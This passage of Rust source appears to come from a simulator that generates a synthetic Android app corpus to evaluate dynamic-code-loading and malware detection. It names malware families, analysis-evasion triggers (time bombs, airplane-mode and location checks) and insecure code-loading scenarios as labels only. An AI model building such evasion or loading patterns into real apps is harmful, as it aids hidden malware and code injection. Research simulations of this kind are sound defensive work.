    "Business",
    "Comics",
    "Communication",
    "Education",
    "Entertainment",
    "Finance",
    "Health & Fitness",
    "Libraries & Demo",
    "Lifestyle",
    "Live Wallpaper",
    "Media & Video",
    "Medical",
    "Music & Audio",
    "News & Magazines",
    "Personalization",
    "Photography",
    "Productivity",
    "Shopping",
    "Social",
    "Sports",
    "Tools",
    "Transportation",
    "Travel & Local",
    "Weather",
    "Widgets",
    "Game Action",
    "Game Adventure",
    "Game Arcade",
    "Game Board",
    "Game Card",
    "Game Casino",
    "Game Casual",
    "Game Educational",
    "Game Music",
    "Game Puzzle",
    "Game Racing",
    "Game Role Playing",
    "Game Simulation",
    "Game Sports",
    "Game Strategy",
    "Game Word",
];

/// Index of a named category.
pub fn index_of(name: &str) -> Option<usize> {
    CATEGORIES.iter().position(|c| *c == name)
}

/// Index of "Entertainment".
pub const ENTERTAINMENT: usize = 5;
/// Index of "Shopping".
pub const SHOPPING: usize = 18;
/// Index of "Tools".
pub const TOOLS: usize = 21;

/// The category mix of DEX-encryption (packed) apps, reflecting Figure 3:
/// Entertainment, Tools and Shopping dominate. Returns a category index
/// for the `i`-th of `count` packed apps (the position is rescaled into
/// the full-scale weighted distribution so small corpora keep the shape).
pub fn packer_category(i: usize, count: usize) -> usize {
    // Approximate Figure 3 bar heights out of 140 packed apps:
    // Entertainment ~30, Tools ~26, Shopping ~20, then a long tail.
    const WEIGHTED: [(usize, usize); 10] = [
        (ENTERTAINMENT, 30),
        (TOOLS, 26),
        (SHOPPING, 20),
        (6, 12),  // Finance
        (3, 10),  // Communication
        (17, 10), // Productivity
        (19, 8),  // Social
        (9, 8),   // Lifestyle
        (11, 8),  // Media & Video
        (13, 8),  // Music & Audio
    ];
    let total: usize = WEIGHTED.iter().map(|(_, w)| w).sum();
    let slot = (i * total / count.max(1)) % total;
    let mut acc = 0;
    for (cat, w) in WEIGHTED {
        acc += w;
        if slot < acc {
            return cat;
        }
    }
    ENTERTAINMENT
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exactly_42_categories() {
        assert_eq!(CATEGORIES.len(), 42);
        let unique: std::collections::HashSet<&&str> = CATEGORIES.iter().collect();
        assert_eq!(unique.len(), 42);
    }

    #[test]
    fn named_indices() {
        assert_eq!(CATEGORIES[ENTERTAINMENT], "Entertainment");
        assert_eq!(CATEGORIES[SHOPPING], "Shopping");
        assert_eq!(CATEGORIES[TOOLS], "Tools");
        assert_eq!(index_of("Tools"), Some(TOOLS));
        assert_eq!(index_of("Nope"), None);
    }

    #[test]
    fn packer_categories_dominated_by_big_three() {
        let mut counts = [0usize; 42];
        for i in 0..140 {
            counts[packer_category(i, 140)] += 1;
        }
        let big3 = counts[ENTERTAINMENT] + counts[TOOLS] + counts[SHOPPING];
        assert!(big3 > 140 / 2, "big three should dominate, got {big3}");
        assert!(counts[ENTERTAINMENT] >= counts[TOOLS]);
        assert!(counts[TOOLS] >= counts[SHOPPING]);
    }

    #[test]
    fn small_corpora_keep_the_shape() {
        let mut counts = [0usize; 42];
        for i in 0..14 {
            counts[packer_category(i, 14)] += 1;
        }
        // Even with 14 packers the mass must spread beyond one category.
        assert!(counts.iter().filter(|&&c| c > 0).count() >= 4);
        assert!(counts[ENTERTAINMENT] >= counts[SHOPPING]);
    }
}
