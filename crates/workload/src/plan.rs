//! Corpus planning: sampling ground-truth blueprints for every app.
//!
//! The planner allocates the paper's special populations first (packers,
//! malware, remote fetchers, vulnerable apps, countermeasure apps), then
//! fills the remainder with generic apps sampled at the paper's rates.
//! Small populations are assigned deterministically so scaled tables match
//! tightly; large ones are Bernoulli draws from the seeded generator.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::categories;
use crate::names;
use crate::popularity::{sample_metadata, AppMetadata};
use crate::spec::{paper, CorpusSpec};

/// Malware families of Table VII.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MalwareFamily {
    /// DEX botnet: exfiltrates IMEI/phone/IMSI, executes remote commands.
    SwissCodeMonkeys,
    /// DEX adware: notification ads, shortcuts, homepage redirect.
    AirpushMinimob,
    /// Native: root + ptrace on QQ/WeChat + chat-log exfiltration.
    ChathookPtrace,
}

impl MalwareFamily {
    /// The family's canonical name (used for detector training labels).
    pub fn name(self) -> &'static str {
        match self {
            MalwareFamily::SwissCodeMonkeys => "swiss_code_monkeys",
            MalwareFamily::AirpushMinimob => "adware_airpush_minimob",
            MalwareFamily::ChathookPtrace => "chathook_ptrace",
        }
    }

    /// Whether the family's payload is native code.
    pub fn is_native(self) -> bool {
        matches!(self, MalwareFamily::ChathookPtrace)
    }
}

/// Environment-trigger guards on a malicious file (Table VIII).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct TriggerSet {
    /// Hide when the system time predates the release date.
    pub time_bomb: bool,
    /// Hide whenever airplane mode is on (even with WiFi).
    pub airplane_check: bool,
    /// Hide when no network path is available.
    pub needs_network: bool,
    /// Hide when the location service is disabled.
    pub location_check: bool,
}

impl TriggerSet {
    /// No guards: always loads.
    pub fn none() -> Self {
        TriggerSet::default()
    }

    /// Whether the payload loads under a given environment.
    pub fn fires(
        &self,
        time_after_release: bool,
        airplane: bool,
        network_available: bool,
        location_on: bool,
    ) -> bool {
        if self.time_bomb && !time_after_release {
            return false;
        }
        if self.airplane_check && airplane {
            return false;
        }
        if self.needs_network && !network_available {
            return false;
        }
        if self.location_check && !location_on {
            return false;
        }
        true
    }
}

/// Who performs the DCL (Table IV).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum EntityPlan {
    /// Only third-party SDK classes load code.
    ThirdParty,
    /// Only the developer's own classes load code.
    Own,
    /// Both.
    Both,
}

/// Plan for one kind of DCL in an app.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct DclPlan {
    /// Whether the load actually executes when the app is exercised
    /// (Table II's intercepted rate); dead code still passes the filter.
    pub reachable: bool,
    /// Responsible entity.
    pub entity: EntityPlan,
}

/// Vulnerability scenarios (Table IX).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum VulnPlan {
    /// Stage and load DEX from world-writable external storage.
    DexExternal,
    /// Load a native library from another app's internal storage.
    NativeForeign {
        /// Provider package whose storage is read.
        provider: String,
        /// Library file name.
        soname: String,
    },
}

/// One privacy-leak assignment: Table X type index (into the canonical
/// 18-type order) and whether the leak is exclusively in third-party code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct PrivacyLeakPlan {
    /// Index into the canonical Table X type order (0..18).
    pub type_index: usize,
    /// Leak sits only in third-party-loaded payloads.
    pub exclusively_third_party: bool,
}

/// The full ground-truth blueprint of one synthetic app.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AppPlan {
    /// Package name (unique in the corpus).
    pub package: String,
    /// DEX-DCL plan, if the app has class-loader code.
    pub dex: Option<DclPlan>,
    /// Native-DCL plan, if the app has JNI load code.
    pub native: Option<DclPlan>,
    /// Lexical obfuscation applied.
    pub lexical: bool,
    /// Reflection usage present.
    pub reflection: bool,
    /// Packed with DEX encryption.
    pub packer: bool,
    /// Carries the decompiler-killing pattern.
    pub anti_decompilation: bool,
    /// Carries the repackaging trap (and lacks the external-storage
    /// permission, so rewriting is attempted and fails).
    pub anti_repackaging: bool,
    /// Declares no launchable activity.
    pub no_activity: bool,
    /// Crashes in `onCreate` (developer bug).
    pub crash_on_launch: bool,
    /// Declares `WRITE_EXTERNAL_STORAGE`.
    pub has_write_external: bool,
    /// Loads the Google-Ads-like SDK (settings-only reader).
    pub google_ads: bool,
    /// Fetches and executes remote code (Table V).
    pub remote_fetch: bool,
    /// Malware payloads carried: family, trigger set, file count (1 or 2).
    pub malware: Option<(MalwareFamily, Vec<TriggerSet>)>,
    /// Vulnerability scenario.
    pub vuln: Option<VulnPlan>,
    /// Privacy leaks embedded in loaded payloads.
    pub privacy: Vec<PrivacyLeakPlan>,
    /// Store metadata.
    pub metadata: AppMetadata,
}

impl AppPlan {
    /// A neutral plan for an externally supplied APK (CLI analysis of an
    /// on-disk file): no ground-truth labels, placeholder metadata.
    pub fn external(package: impl Into<String>) -> Self {
        AppPlan::base(
            package.into(),
            AppMetadata {
                category: 0,
                downloads: 0,
                rating_count: 0,
                avg_rating: 0.0,
            },
        )
    }

    fn base(package: String, metadata: AppMetadata) -> Self {
        AppPlan {
            package,
            dex: None,
            native: None,
            lexical: false,
            reflection: false,
            packer: false,
            anti_decompilation: false,
            anti_repackaging: false,
            no_activity: false,
            crash_on_launch: false,
            has_write_external: true,
            google_ads: false,
            remote_fetch: false,
            malware: None,
            vuln: None,
            privacy: Vec::new(),
            metadata,
        }
    }

    /// Whether any DCL code is present (the static filter's ground truth).
    pub fn has_dcl_code(&self) -> bool {
        self.dex.is_some()
            || self.native.is_some()
            || self.packer
            || self.remote_fetch
            || self.malware.is_some()
            || self.vuln.is_some()
    }
}

/// Plans the whole corpus. Deterministic in `spec`.
pub fn plan_corpus(spec: &CorpusSpec) -> Vec<AppPlan> {
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
    let total = spec.total_apps();
    let mut plans: Vec<AppPlan> = Vec::with_capacity(total);
    let mut generic_counter = 0usize;

    let mut next_generic = |rng: &mut ChaCha8Rng, has_dex: bool, has_native: bool| {
        let pkg = names::generic_package(generic_counter);
        generic_counter += 1;
        let category = rng.gen_range(0..categories::CATEGORIES.len());
        let metadata = sample_metadata(rng, category, has_dex, has_native);
        AppPlan::base(pkg, metadata)
    };

    // ---------------------------------------------------------------
    // Special populations (deterministic counts).
    // ---------------------------------------------------------------

    // Anti-decompilation apps: install fine, kill the decompiler.
    for _ in 0..spec.scaled(paper::ANTI_DECOMPILATION) {
        let mut p = next_generic(&mut rng, false, false);
        p.anti_decompilation = true;
        plans.push(p);
    }

    // Packers (DEX encryption), Figure 3 category mix.
    let n_packers = spec.scaled(paper::DEX_ENCRYPTION);
    for i in 0..n_packers {
        let mut p = next_generic(&mut rng, true, true);
        p.packer = true;
        p.metadata.category = categories::packer_category(i, n_packers);
        // The injected container lives in the hardening vendor's own
        // namespace, so its loads attribute to a third party (Table IV).
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }

    // Remote-fetch apps (Table V), attributed to the Baidu-like SDK.
    for i in 0..spec.scaled(paper::REMOTE_FETCH) {
        let pkg = names::REMOTE_FETCH_PACKAGES
            .get(i)
            .map(|s| (*s).to_string())
            .unwrap_or_else(|| format!("com.remotefetch.extra{i}"));
        let category = rng.gen_range(0..categories::CATEGORIES.len());
        let metadata = sample_metadata(&mut rng, category, true, false);
        let mut p = AppPlan::base(pkg, metadata);
        p.remote_fetch = true;
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }

    // Malware (Table VII) with trigger sets partitioned per Table VIII.
    let n_swiss = spec.scaled(paper::MALWARE_SWISS);
    let n_airpush = spec.scaled(paper::MALWARE_AIRPUSH);
    let n_chathook = spec.scaled(paper::MALWARE_CHATHOOK);
    let n_mal_apps = n_swiss + n_airpush + n_chathook;
    let extra_files = spec.scaled(paper::MALICIOUS_FILES - 87); // 4 at full scale
    let n_files = n_mal_apps + extra_files;
    let triggers = plan_triggers(spec, n_files);
    let mut file_cursor = 0usize;
    let mut take_triggers = |count: usize| -> Vec<TriggerSet> {
        let out: Vec<TriggerSet> = (0..count)
            .map(|k| triggers[(file_cursor + k).min(triggers.len() - 1)])
            .collect();
        file_cursor += count;
        out
    };
    for i in 0..n_swiss {
        let pkg = if i == 0 {
            names::SWISS_PACKAGE.to_string()
        } else {
            format!("com.swisshost.extra{i}")
        };
        let metadata = sample_metadata(&mut rng, 11, true, false);
        let mut p = AppPlan::base(pkg, metadata);
        p.metadata.downloads = p.metadata.downloads.max(10_000_000);
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        p.malware = Some((MalwareFamily::SwissCodeMonkeys, take_triggers(1)));
        plans.push(p);
    }
    for i in 0..n_airpush {
        let pkg = if i == 0 {
            names::AIRPUSH_PACKAGE.to_string()
        } else {
            format!("com.airhost.extra{i}")
        };
        let metadata = sample_metadata(&mut rng, 9, true, false);
        let mut p = AppPlan::base(pkg, metadata);
        p.metadata.downloads = if i == 0 {
            10_000 // the paper's sample: com.oshare.app (10,000)
        } else {
            p.metadata.downloads.min(9_999)
        };
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        p.malware = Some((MalwareFamily::AirpushMinimob, take_triggers(1)));
        plans.push(p);
    }
    for i in 0..n_chathook {
        let pkg = if i == 0 {
            names::CHATHOOK_PACKAGE.to_string()
        } else {
            format!("com.gamestudio.chat{i}")
        };
        let metadata = sample_metadata(&mut rng, 32, false, true);
        let mut p = AppPlan::base(pkg, metadata);
        if i == 0 {
            p.metadata.downloads = p.metadata.downloads.max(10_000_000);
        }
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        // The first `extra_files` chathook apps carry two payloads,
        // reproducing 91 files across 87 apps.
        let files = if i < extra_files { 2 } else { 1 };
        p.malware = Some((MalwareFamily::ChathookPtrace, take_triggers(files)));
        plans.push(p);
    }

    // Vulnerable apps (Table IX).
    for i in 0..spec.scaled(paper::VULN_DEX_EXTERNAL) {
        let pkg = names::VULN_DEX_EXTERNAL_PACKAGES
            .get(i)
            .map(|s| (*s).to_string())
            .unwrap_or_else(|| format!("com.vulnext.extra{i}"));
        let metadata = sample_metadata(&mut rng, 26, true, false);
        let mut p = AppPlan::base(pkg, metadata);
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Own,
        });
        p.vuln = Some(VulnPlan::DexExternal);
        plans.push(p);
    }
    for i in 0..spec.scaled(paper::VULN_NATIVE_FOREIGN) {
        let pkg = names::VULN_NATIVE_FOREIGN_PACKAGES
            .get(i)
            .map(|s| (*s).to_string())
            .unwrap_or_else(|| format!("com.vulnnat.extra{i}"));
        let (provider, soname) = names::foreign_provider(i);
        let metadata = sample_metadata(&mut rng, 27, false, true);
        let mut p = AppPlan::base(pkg, metadata);
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::Own,
        });
        p.vuln = Some(VulnPlan::NativeForeign {
            provider: provider.to_string(),
            soname: soname.to_string(),
        });
        plans.push(p);
    }

    // Table II failure rows: no-activity, crash, rewriting failure —
    // disjoint DEX and native columns.
    for _ in 0..spec.scaled(paper::NO_ACTIVITY_DEX) {
        let mut p = next_generic(&mut rng, true, false);
        p.no_activity = true;
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }
    for _ in 0..spec.scaled(paper::NO_ACTIVITY_NATIVE) {
        let mut p = next_generic(&mut rng, false, true);
        p.no_activity = true;
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }
    for _ in 0..spec.scaled(paper::CRASH_DEX) {
        let mut p = next_generic(&mut rng, true, false);
        p.crash_on_launch = true;
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }
    for _ in 0..spec.scaled(paper::CRASH_NATIVE) {
        let mut p = next_generic(&mut rng, false, true);
        p.crash_on_launch = true;
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }
    for _ in 0..spec.scaled(paper::REWRITE_FAIL_DEX) {
        let mut p = next_generic(&mut rng, true, false);
        p.anti_repackaging = true;
        p.has_write_external = false;
        p.dex = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }
    for _ in 0..spec.scaled(paper::REWRITE_FAIL_NATIVE) {
        let mut p = next_generic(&mut rng, false, true);
        p.anti_repackaging = true;
        p.has_write_external = false;
        p.native = Some(DclPlan {
            reachable: true,
            entity: EntityPlan::ThirdParty,
        });
        plans.push(p);
    }

    // ---------------------------------------------------------------
    // Generic population fills the remainder.
    // ---------------------------------------------------------------
    while plans.len() < total {
        let has_dex = rng.gen_bool(paper::P_DEX_CODE);
        let has_native = if has_dex {
            rng.gen_bool(paper::P_NATIVE_GIVEN_DEX)
        } else {
            rng.gen_bool(paper::P_NATIVE_GIVEN_NO_DEX)
        };
        let mut p = next_generic(&mut rng, has_dex, has_native);
        if has_dex {
            p.dex = Some(DclPlan {
                reachable: rng.gen_bool(paper::P_DEX_REACHABLE),
                entity: EntityPlan::ThirdParty,
            });
        }
        if has_native {
            p.native = Some(DclPlan {
                reachable: rng.gen_bool(paper::P_NATIVE_REACHABLE),
                entity: EntityPlan::ThirdParty,
            });
        }
        p.has_write_external = rng.gen_bool(0.5);
        plans.push(p);
    }

    // Universal flags over the whole corpus.
    for p in &mut plans {
        if !p.anti_decompilation && !p.packer {
            p.lexical = rng.gen_bool(paper::P_LEXICAL);
            p.reflection = rng.gen_bool(paper::P_REFLECTION);
        }
    }

    // Entity post-pass over reachable generic apps (Table IV).
    assign_entities(spec, &mut plans);
    // Ads + privacy post-pass over intercepted-DEX apps (Table X).
    assign_privacy(spec, &mut plans);

    plans
}

/// Partitions the malicious-file population into Table VIII trigger sets:
/// time bombs, airplane checks, offline-only checks, location checks, and
/// unconditional loaders, proportionally to the paper's 91-file split.
/// Every non-empty paper category keeps at least one file, so the four
/// configuration columns stay distinguishable at small scales.
fn plan_triggers(spec: &CorpusSpec, n_files: usize) -> Vec<TriggerSet> {
    let _ = spec;
    let n = n_files.max(1);
    let shares = [
        paper::HIDDEN_BY_TIME,
        paper::HIDDEN_BY_AIRPLANE,
        paper::HIDDEN_BY_OFFLINE_EXTRA,
        paper::HIDDEN_BY_LOCATION,
    ];
    // Proportional targets with a floor of 1 per category (when room
    // remains), trimming the largest buckets if the floors overshoot.
    let mut targets: Vec<usize> = shares
        .iter()
        .map(|&s| ((s * n + paper::MALICIOUS_FILES / 2) / paper::MALICIOUS_FILES).max(1))
        .collect();
    while targets.iter().sum::<usize>() > n {
        let max_idx = (0..4).max_by_key(|&i| targets[i]).expect("non-empty");
        targets[max_idx] = targets[max_idx].saturating_sub(1);
    }
    let mut out = Vec::with_capacity(n);
    for (idx, &t) in targets.iter().enumerate() {
        for _ in 0..t {
            let mut set = TriggerSet::none();
            match idx {
                0 => set.time_bomb = true,
                1 => set.airplane_check = true,
                2 => set.needs_network = true,
                _ => set.location_check = true,
            }
            out.push(set);
        }
    }
    while out.len() < n {
        out.push(TriggerSet::none());
    }
    out
}

fn assign_entities(spec: &CorpusSpec, plans: &mut [AppPlan]) {
    // DEX: among reachable non-special apps, a handful are own/both.
    let dex_idx: Vec<usize> = plans
        .iter()
        .enumerate()
        .filter(|(_, p)| {
            p.dex.map(|d| d.reachable).unwrap_or(false)
                && p.malware.is_none()
                && p.vuln.is_none()
                && !p.packer
                && !p.remote_fetch
        })
        .map(|(i, _)| i)
        .collect();
    let own_only = spec.scaled((paper::P_DEX_OWN_ONLY * 16_768.0).round() as usize);
    let both = spec.scaled((paper::P_DEX_BOTH * 16_768.0).round() as usize);
    for (k, &i) in dex_idx.iter().enumerate() {
        let entity = if k < own_only {
            EntityPlan::Own
        } else if k < own_only + both {
            EntityPlan::Both
        } else {
            EntityPlan::ThirdParty
        };
        if let Some(d) = &mut plans[i].dex {
            d.entity = entity;
        }
    }
    // Native.
    let native_idx: Vec<usize> = plans
        .iter()
        .enumerate()
        .filter(|(_, p)| {
            p.native.map(|d| d.reachable).unwrap_or(false)
                && p.malware.is_none()
                && p.vuln.is_none()
                && !p.packer
        })
        .map(|(i, _)| i)
        .collect();
    let own_only = spec.scaled((paper::P_NATIVE_OWN_ONLY * 13_748.0).round() as usize);
    let both = spec.scaled((paper::P_NATIVE_BOTH * 13_748.0).round() as usize);
    for (k, &i) in native_idx.iter().enumerate() {
        let entity = if k < own_only {
            EntityPlan::Own
        } else if k < own_only + both {
            EntityPlan::Both
        } else {
            EntityPlan::ThirdParty
        };
        if let Some(d) = &mut plans[i].native {
            d.entity = entity;
        }
    }
}

fn assign_privacy(spec: &CorpusSpec, plans: &mut [AppPlan]) {
    // The intercepted-DEX population: reachable dex, excluding special
    // classes whose payloads are fixed.
    let pool: Vec<usize> = plans
        .iter()
        .enumerate()
        .filter(|(_, p)| {
            p.dex.map(|d| d.reachable).unwrap_or(false)
                && p.malware.is_none()
                && !p.packer
                && !p.crash_on_launch
                && !p.remote_fetch
                && p.vuln.is_none()
                && !p.no_activity
                && !p.anti_repackaging
        })
        .map(|(i, _)| i)
        .collect();
    if pool.is_empty() {
        return;
    }
    // Google-Ads share first.
    let n_ads = ((pool.len() as f64) * paper::P_GOOGLE_ADS).round() as usize;
    for &i in pool.iter().take(n_ads) {
        plans[i].google_ads = true;
    }
    let leak_pool: Vec<usize> = pool[n_ads..].to_vec();
    if leak_pool.is_empty() {
        return;
    }
    // Deterministic striped assignment of privacy types over the non-ad
    // pool, scaled from Table X.
    let mut offset = 0usize;
    for (type_index, apps, excl) in paper::PRIVACY_COUNTS {
        let target = spec.scaled(apps).min(leak_pool.len());
        let excl_target = spec.scaled(excl).min(target);
        for k in 0..target {
            let idx = leak_pool[(offset + k) % leak_pool.len()];
            plans[idx].privacy.push(PrivacyLeakPlan {
                type_index,
                exclusively_third_party: k < excl_target,
            });
            // Non-exclusive leaks need an own-entity load to live in.
            if k >= excl_target {
                if let Some(d) = &mut plans[idx].dex {
                    if d.entity == EntityPlan::ThirdParty {
                        d.entity = EntityPlan::Both;
                    }
                }
            }
        }
        offset += target.max(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_spec() -> CorpusSpec {
        CorpusSpec {
            scale: 0.02,
            seed: 42,
        }
    }

    #[test]
    fn plan_is_deterministic() {
        let a = plan_corpus(&small_spec());
        let b = plan_corpus(&small_spec());
        assert_eq!(a, b);
    }

    #[test]
    fn plan_has_expected_size_and_uniqueness() {
        let spec = small_spec();
        let plans = plan_corpus(&spec);
        assert_eq!(plans.len(), spec.total_apps());
        let unique: std::collections::HashSet<&String> = plans.iter().map(|p| &p.package).collect();
        assert_eq!(unique.len(), plans.len(), "duplicate package names");
    }

    #[test]
    fn special_populations_present() {
        let plans = plan_corpus(&small_spec());
        assert!(plans.iter().any(|p| p.anti_decompilation));
        assert!(plans.iter().any(|p| p.packer));
        assert!(plans.iter().any(|p| p.remote_fetch));
        assert!(plans
            .iter()
            .any(|p| matches!(p.malware, Some((MalwareFamily::SwissCodeMonkeys, _)))));
        assert!(plans
            .iter()
            .any(|p| matches!(p.malware, Some((MalwareFamily::ChathookPtrace, _)))));
        assert!(plans
            .iter()
            .any(|p| matches!(p.vuln, Some(VulnPlan::DexExternal))));
        assert!(plans
            .iter()
            .any(|p| matches!(p.vuln, Some(VulnPlan::NativeForeign { .. }))));
        assert!(plans.iter().any(|p| p.no_activity));
        assert!(plans.iter().any(|p| p.crash_on_launch));
        assert!(plans.iter().any(|p| p.anti_repackaging));
    }

    #[test]
    fn dcl_rates_roughly_match() {
        let spec = CorpusSpec {
            scale: 0.1,
            seed: 7,
        };
        let plans = plan_corpus(&spec);
        let n = plans.len() as f64;
        let dex = plans.iter().filter(|p| p.dex.is_some() || p.packer).count() as f64;
        let native = plans.iter().filter(|p| p.native.is_some()).count() as f64;
        assert!((dex / n - 0.695).abs() < 0.05, "dex share {}", dex / n);
        assert!(
            (native / n - 0.43).abs() < 0.05,
            "native share {}",
            native / n
        );
    }

    #[test]
    fn trigger_partition_shape() {
        let spec = CorpusSpec::with_scale(1.0);
        let triggers = plan_triggers(&spec, 91);
        let time = triggers.iter().filter(|t| t.time_bomb).count();
        let airplane = triggers.iter().filter(|t| t.airplane_check).count();
        let network = triggers.iter().filter(|t| t.needs_network).count();
        let location = triggers.iter().filter(|t| t.location_check).count();
        assert_eq!(time, 19);
        assert_eq!(airplane, 35);
        assert_eq!(network, 3);
        assert_eq!(location, 21);
        let unconditional = triggers
            .iter()
            .filter(|t| **t == TriggerSet::none())
            .count();
        assert_eq!(unconditional, 91 - 19 - 35 - 3 - 21);
    }

    #[test]
    fn trigger_partition_keeps_categories_at_small_scale() {
        let spec = CorpusSpec::with_scale(0.1);
        let triggers = plan_triggers(&spec, 11);
        assert_eq!(triggers.len(), 11);
        assert!(triggers.iter().any(|t| t.time_bomb));
        assert!(triggers.iter().any(|t| t.airplane_check));
        assert!(triggers.iter().any(|t| t.needs_network));
        assert!(triggers.iter().any(|t| t.location_check));
    }

    #[test]
    fn trigger_fires_semantics() {
        let t = TriggerSet {
            time_bomb: true,
            airplane_check: false,
            needs_network: true,
            location_check: false,
        };
        assert!(t.fires(true, false, true, true));
        assert!(!t.fires(false, false, true, true), "time bomb hides");
        assert!(!t.fires(true, false, false, true), "offline hides");
        assert!(t.fires(true, true, true, true), "airplane ignored");
    }

    #[test]
    fn ads_dominate_intercepted_dex_apps() {
        let plans = plan_corpus(&CorpusSpec {
            scale: 0.05,
            seed: 3,
        });
        let intercepted: Vec<&AppPlan> = plans
            .iter()
            .filter(|p| {
                p.dex.map(|d| d.reachable).unwrap_or(false)
                    && p.malware.is_none()
                    && !p.packer
                    && !p.crash_on_launch
            })
            .collect();
        let ads = intercepted.iter().filter(|p| p.google_ads).count();
        let share = ads as f64 / intercepted.len() as f64;
        assert!((share - 0.895).abs() < 0.03, "ads share {share}");
        // Non-ad apps carry privacy plans; IMEI should be the most common
        // non-settings type.
        let imei = plans
            .iter()
            .filter(|p| p.privacy.iter().any(|l| l.type_index == 1))
            .count();
        assert!(imei > 0);
    }

    #[test]
    fn entities_mostly_third_party() {
        let plans = plan_corpus(&CorpusSpec {
            scale: 0.1,
            seed: 9,
        });
        let reachable: Vec<&DclPlan> = plans
            .iter()
            .filter_map(|p| p.dex.as_ref())
            .filter(|d| d.reachable)
            .collect();
        let third = reachable
            .iter()
            .filter(|d| d.entity == EntityPlan::ThirdParty)
            .count();
        assert!(third as f64 / reachable.len() as f64 > 0.95);
        // Native: own entity is a visible minority (16.58% in Table IV).
        let native: Vec<&DclPlan> = plans
            .iter()
            .filter_map(|p| p.native.as_ref())
            .filter(|d| d.reachable)
            .collect();
        let own = native
            .iter()
            .filter(|d| d.entity != EntityPlan::ThirdParty)
            .count();
        let share = own as f64 / native.len() as f64;
        assert!(share > 0.08 && share < 0.30, "native own share {share}");
    }
}
