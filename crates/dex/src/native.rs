//! Simulated native (`.so`) libraries.
//!
//! A stand-in for ELF shared objects with exactly the properties the
//! pipeline needs: an architecture tag, a symbol table, per-function bodies
//! in a small pseudo instruction set with real control flow (so the
//! DroidNative-like detector can build CFGs over native code, which
//! bytecode-only systems such as TaintDroid cannot), and *interpretable
//! effects* — `Syscall` operands like `ptrace:<pkg>` or
//! `xor_decrypt:<src>:<dst>:<key>` are executed by the simulated runtime,
//! which is how packer decrypt stubs and the Chathook ptrace malware family
//! actually do their work.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::encode::{Reader, Writer};
use crate::DexError;

/// Magic bytes of an encoded native library.
pub const SO_MAGIC: &[u8; 4] = b"SELF";

/// Target architecture of a native library.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Arch {
    /// 32-bit ARM (`armeabi`).
    Arm,
    /// x86.
    X86,
}

impl Arch {
    /// ABI directory name under `lib/` in an APK.
    pub fn abi_dir(self) -> &'static str {
        match self {
            Arch::Arm => "armeabi",
            Arch::X86 => "x86",
        }
    }
}

impl fmt::Display for Arch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.abi_dir())
    }
}

/// Branch conditions in the native pseudo-ISA.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum NativeCond {
    /// Branch if the register is zero.
    Zero,
    /// Branch if the register is non-zero.
    NonZero,
}

/// One pseudo-instruction of simulated native code.
///
/// Branch targets are absolute indices into the owning function's body.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum NativeInsn {
    /// No operation.
    Nop,
    /// Load an immediate into a register.
    Const {
        /// Destination register (native code has 16 registers, `r0..r15`).
        dst: u8,
        /// Immediate value.
        value: i64,
    },
    /// `dst = a + b` (the single arithmetic op; enough for CFG shape).
    Add {
        /// Destination register.
        dst: u8,
        /// Left operand.
        a: u8,
        /// Right operand.
        b: u8,
    },
    /// Call a symbol — another function in this library or an import.
    Call {
        /// Callee symbol name.
        symbol: String,
    },
    /// Invoke an OS-level effect. The `name` selects the effect and the
    /// optional argument carries colon-separated operands, e.g.
    /// `ptrace:com.tencent.mobileqq` or `xor_decrypt:src:dst:key`.
    Syscall {
        /// Effect name (`ptrace`, `setuid`, `connect`, `send`, `open`,
        /// `xor_decrypt`, `fork`, …).
        name: String,
        /// Optional colon-separated operand string.
        arg: Option<String>,
    },
    /// Unconditional jump.
    Jump {
        /// Absolute instruction index.
        target: u32,
    },
    /// Conditional branch on a register.
    Branch {
        /// Condition.
        cond: NativeCond,
        /// Tested register.
        reg: u8,
        /// Absolute instruction index.
        target: u32,
    },
    /// Return from the function.
    Ret,
}

impl NativeInsn {
    /// Branch target, if this is a jump or branch.
    pub fn branch_target(&self) -> Option<u32> {
        match self {
            NativeInsn::Jump { target } | NativeInsn::Branch { target, .. } => Some(*target),
            _ => None,
        }
    }

    /// Whether control can fall through to the next instruction.
    pub fn falls_through(&self) -> bool {
